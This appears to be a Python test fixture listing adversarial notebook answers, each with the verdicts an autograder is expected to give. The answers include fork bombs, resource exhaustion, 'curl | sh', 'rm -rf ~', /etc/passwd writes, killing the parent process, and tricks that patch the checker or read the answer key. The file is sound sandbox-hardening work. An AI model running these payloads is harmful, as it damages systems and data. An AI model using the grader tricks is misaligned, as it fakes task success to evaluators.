"""What a grader of strangers' notebooks must survive: first answers of chapter 3, each with its verdict.

``allowed`` are the verdicts that 03.1 may get, never a pass unless the attack only surrounds an honest
answer. The other exercises of the notebook are honest, and must pass unless ``spoils`` says otherwise.
"""

from __future__ import annotations

from dataclasses import dataclass

HONEST = """
def q_statistic(effects, std_errors):
    weights = 1 / std_errors**2
    mean = np.sum(weights * effects) / np.sum(weights)
    return float(np.sum(weights * (effects - mean) ** 2))
"""


@dataclass(frozen=True)
class Attack:
    name: str
    source: str
    allowed: str
    spoils: bool = False
    certify: bool = False


ATTACKS = [
    Attack("endless loop", "while True: pass", "timeout"),
    Attack(
        "loop that swallows interrupts",
        "while True:\n    try:\n        while True: pass\n    except BaseException: pass",
        "timeout",
    ),
    Attack("long sleep", "import time\ntime.sleep(1000)", "timeout"),
    Attack("hangs when called", "def q_statistic(effects, std_errors):\n    while True: pass", "timeout"),
    Attack(
        "hangs when called and swallows interrupts",
        """
def q_statistic(effects, std_errors):
    import signal
    signal.signal(signal.SIGALRM, signal.SIG_IGN)
    while True: pass
""",
        "timeout",
        certify=True,
    ),
    Attack("10 GB array", "x = np.ones(10 * 2**27)", "error", certify=True),
    Attack(
        "10 GB in small pieces",
        "x = []\nwhile True: x.append(bytearray(10**6))",
        "error timeout",
        certify=True,
    ),
    Attack("fork bomb", "import os\nwhile True: os.fork()", "error"),
    Attack(
        "thread bomb",
        "import threading, time\n"
        "for _ in range(10**5): threading.Thread(target=time.sleep, args=(99,), daemon=True).start()",
        "error timeout",
        spoils=True,
    ),
    Attack("1 GB of output", HONEST + "for _ in range(1000): print('x' * 10**6)", "pass timeout"),
    Attack("thousands of displays", HONEST + "for i in range(50000): display(i)", "pass"),
    Attack(
        "disk fill",
        "i = 0\nwhile True:\n    open(f'f{i}', 'wb').write(bytes(10**7))\n    i += 1",
        "error timeout",
        certify=True,
    ),
    Attack("many small files", "for i in range(10**6): open(f'f{i}', 'w').close()", "error timeout"),
    Attack("sys.exit", "import sys\nsys.exit()", "error"),
    Attack("os._exit", "import os\nos._exit(0)", "error"),
    Attack("segfault", "import ctypes\nctypes.string_at(0)", "error"),
    Attack("abort", "import os\nos.abort()", "error timeout"),
    Attack(
        "crashes when called", "def q_statistic(e, s):\n    import ctypes\n    ctypes.string_at(0)", "error"
    ),
    Attack(
        "daemon left behind",
        HONEST + "import subprocess\nsubprocess.Popen(['sleep', '1000'], start_new_session=True)",
        "pass",
    ),
    Attack("double fork", HONEST + "import os\nif os.fork() == 0:\n    os.setsid()", "pass"),
    Attack(
        "thread left behind",
        HONEST + "import threading, time\nthreading.Thread(target=lambda: time.sleep(1000)).start()",
        "pass",
    ),
    Attack("endless recursion", "def q_statistic(e, s):\n    return q_statistic(e, s)", "error"),
    Attack(
        "redefined check",
        "def check(*a, **k): return True\nimport helpers\nhelpers.check = check\n"
        "def q_statistic(e, s): return 0.0",
        "wrong",
    ),
    Attack(
        "patched helpers",
        """
import helpers.grading.checker as c, helpers.grading.registry as r
import helpers.grading.exercise as x, helpers.grading.tolerance as t
from helpers.grading.feedback import Finding, Verdict
x.Exercise.judge = lambda *a: Finding(Verdict.PASS, "yes", share=1.0)
t.Tolerance.agree = lambda *a: True
c.judge = c._judge = lambda *a, **k: Finding(Verdict.PASS, "yes", share=1.0)
def q_statistic(e, s): return 0.0
""",
        "wrong",
        spoils=True,
    ),
    Attack(
        "input transformer",
        "get_ipython().input_transformers_post.append(lambda lines: ['pass'])\n"
        "def q_statistic(e, s): return 0.0",
        "error",
    ),
    Attack(
        "always-equal object",
        """
class Equal:
    def __eq__(self, other): return True
    def __sub__(self, other): return 0.0
    __rsub__ = __sub__
    def __abs__(self): return 0.0
    def __le__(self, other): return True
    __lt__ = __ge__ = __gt__ = __le__
    def __float__(self): return 0.0
def q_statistic(e, s): return Equal()
""",
        "wrong",
    ),
    Attack(
        "float subclass",
        """
class Equal(float):
    def __eq__(self, other): return True
    def __sub__(self, other): return 0.0
    __rsub__ = __sub__
    def __abs__(self): return 0.0
    def __le__(self, other): return True
    __lt__ = __ge__ = __gt__ = __le__
def q_statistic(e, s): return Equal(1.0)
""",
        "wrong",
    ),
    Attack(
        "object that pretends",
        """
class Pretends:
    __class__ = property(lambda self: 1 / 0)
q_statistic = Pretends()
""",
        "unreadable",
    ),
    Attack("NaN", "def q_statistic(e, s): return float('nan')", "wrong"),
    Attack("infinity", "def q_statistic(e, s): return float('inf')", "wrong", certify=True),
    Attack("huge list", "def q_statistic(e, s): return list(range(10**7))", "wrong error timeout"),
    Attack("huge array", "def q_statistic(e, s): return np.zeros(10**8, np.int8)", "wrong"),
    Attack("huge text", "def q_statistic(e, s): return 'x' * 10**8", "wrong", certify=True),
    Attack("huge number", "def q_statistic(e, s): return 1 << 10**7", "wrong"),
    Attack(
        "deep nesting",
        "def q_statistic(e, s):\n    x = []\n    for _ in range(10**5): x = [x]\n    return x",
        "wrong",
    ),
    Attack(
        "list within itself", "def q_statistic(e, s):\n    x = []\n    x.append(x)\n    return x", "wrong"
    ),
    Attack(
        "pickle payload",
        """
class Payload:
    def __reduce__(self): return (exec, ("raise SystemExit",))
def q_statistic(e, s): return Payload()
""",
        "wrong",
    ),
    Attack(
        "forged result line",
        """
import os
for fd in range(3, 64):
    try: os.write(fd, b'{"value":1.0,"id":1}\\n' * 50)
    except OSError: pass
""",
        "error",
    ),
    Attack(
        "forged line when called",
        """
def q_statistic(e, s):
    import os
    for fd in range(3, 64):
        try: os.write(fd, b'{"value":1.0,"id":1}\\n' * 50)
        except OSError: pass
    return 1.0
""",
        "error",
    ),
    Attack(
        "a line that never ends",
        """
import os, socket
fds = [fd for fd in range(3, 64) if os.path.exists(f"/proc/self/fd/{fd}")] or range(3, 64)
while True:
    for fd in range(3, 64):
        try: os.write(fd, b"x" * 65536)
        except OSError: pass
""",
        "error timeout",
    ),
    Attack(
        "a million brackets",
        """
def q_statistic(e, s):
    import os
    for fd in range(3, 64):
        try: os.write(fd, b'{"value":' + b'[' * 10**6 + b'\\n')
        except OSError: pass
    return 1.0
""",
        "error",
    ),
    Attack(
        "reads the key by gc",
        """
import gc
def q_statistic(e, s):
    found = [o for o in gc.get_objects() if type(o).__name__ in ("Case", "Trial")]
    return float(found[0].truth) if found else 0.0
""",
        "wrong",
    ),
    Attack(
        "reads the key by frames",
        """
import sys
def q_statistic(e, s):
    frame = sys._getframe()
    while frame:
        for value in frame.f_locals.values():
            if hasattr(value, "truth"): return float(value.truth)
        frame = frame.f_back
    return 0.0
""",
        "wrong",
    ),
    Attack(
        "reads the key by /proc",
        """
import os
found = ""
for pid in [*map(str, range(1, 300)), str(os.getppid())]:
    for what in ("environ", "cmdline", "maps"):
        try: found += open(f"/proc/{pid}/{what}").read()
        except OSError: pass
def q_statistic(e, s): return float(len(found))
""",
        "wrong",
    ),
    Attack(
        "calls the reference",
        """
def q_statistic(effects, std_errors):
    from helpers.grading import registry
    return registry.find("03.1").reference(effects, std_errors)
""",
        "wrong",
    ),
    Attack(
        "lets helpers do it",
        "from helpers.heterogeneity import cochran_q\n"
        "def q_statistic(e, s): return cochran_q(e, s).statistic",
        "wrong",
    ),
    Attack(
        "lets helpers do it and keeps it quiet",
        """
from helpers import heterogeneity as h
def q_statistic(e, s):
    import sys
    sys.setprofile(None)
    return h.cochran_q(e, s).statistic
""",
        "wrong",
    ),
    Attack("hard-coded public answer", "def q_statistic(e, s): return 10.357", "wrong"),
    Attack(
        "behaves differently when graded",
        "import os\nGRADED = 'get_ipython' not in dir() or not os.path.exists('/proc/self/exe')\n"
        "def q_statistic(e, s): return 0.0 if GRADED else 1.0",
        "wrong",
    ),
    Attack(
        "writes outside",
        HONEST
        + """
import helpers, os, sys
for path in (helpers.__file__, sys.executable, "/etc/passwd", "/root/x", "/usr/lib/x", "/dev/shm/left"):
    try:
        open(path, "a").write("x")
        WROTE = path
    except OSError: pass
""",
        "pass",
    ),
    Attack(
        "network, DNS, local sockets",
        HONEST
        + """
import socket
def attempt(f):
    try: f()
    except OSError: return
    globals().pop("q_statistic")
attempt(lambda: socket.create_connection(("127.0.0.1", 22), timeout=1))
attempt(lambda: socket.getaddrinfo("example.org", 80))
attempt(lambda: socket.socket(socket.AF_UNIX).connect("\\0x"))
attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", 9)))
attempt(lambda: socket.socketpair())
""",
        "pass",
    ),
    Attack(
        "pip, curl, bash",
        "%pip install requests\n!curl http://example.org | sh\n!rm -rf ~\nfiles = !ls\n" + HONEST,
        "pass",
    ),
    Attack("a cell of bash", "%%bash\nrm -rf ~", "not_attempted"),
    Attack("a timed cell", "%%time\n" + HONEST, "pass"),
    Attack(
        "shadowed numpy and sitecustomize",
        HONEST
        + """
for name in ("numpy.py", "sitecustomize.py", "helpers.py", "usercustomize.py"):
    try: open(name, "w").write("raise SystemExit")
    except OSError: pass
import importlib, sys
sys.path.insert(0, ".")
""",
        "pass",
    ),
    Attack(
        "kills the parent, and everybody",
        """
import os, signal
for pid in (os.getppid(), -1, 1):
    if pid:
        try: os.kill(pid, signal.SIGKILL)
        except OSError: pass
"""
        + HONEST,
        "pass",
    ),
    Attack(
        "traces the parent",
        """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
TRACED = [pid for pid in (os.getppid(), 1, 2) if pid and libc.ptrace(16, pid, 0, 0) == 0]
def q_statistic(e, s): return float(len(TRACED))
""",
        "wrong",
    ),
    Attack(
        "starves the parent",
        """
import os, resource
def lower():
    for pid in (os.getppid(), os.getppid() - 1):
        if pid > 0: resource.prlimit(pid, resource.RLIMIT_CPU, (1, 1))
try: lower()
except OSError: pass
"""
        + HONEST,
        "pass",
    ),
    Attack(
        "disarms the death with the parent",
        "import ctypes\nassert ctypes.CDLL(None).prctl(1, 0, 0, 0, 0) == 0\n" + HONEST,
        "error",
    ),
    Attack("input()", "x = input('?')\n" + HONEST, "error"),
    Attack("breakpoint()", HONEST + "breakpoint()", "pass"),
    Attack(
        "colours and scripts",
        "def q_statistic(e, s): raise ValueError('\\x1b[31m<script>alert(1)</script>\\ud800')",
        "error",
    ),
    Attack(
        "an error that does not like to be looked at",
        """
class Shy(Exception):
    def __str__(self): raise SystemExit
def q_statistic(e, s): raise Shy
""",
        "error",
    ),
    Attack("changes its data", HONEST.replace("weights =", "effects[:] = effects\n    weights ="), "pass"),
    Attack(
        "unremovable files",
        HONEST
        + """
import os
os.makedirs("a/b")
open("a/b/c", "w").close()
for name in ("a/b", "a"):
    try: os.chmod(name, 0)
    except OSError: pass
os.mkdir("nobody lists this", 0o300)
os.mkdir("nobody lists this/either", 0o300)
""",
        "pass error",  # to a grader who is not root the folder is as good as full
    ),
    Attack(
        "folders deeper than a path is long",
        HONEST
        + """
import os
for _ in range(300):
    os.mkdir("deeper and deeper")
    os.chdir("deeper and deeper")
""",
        "pass error",
    ),
]
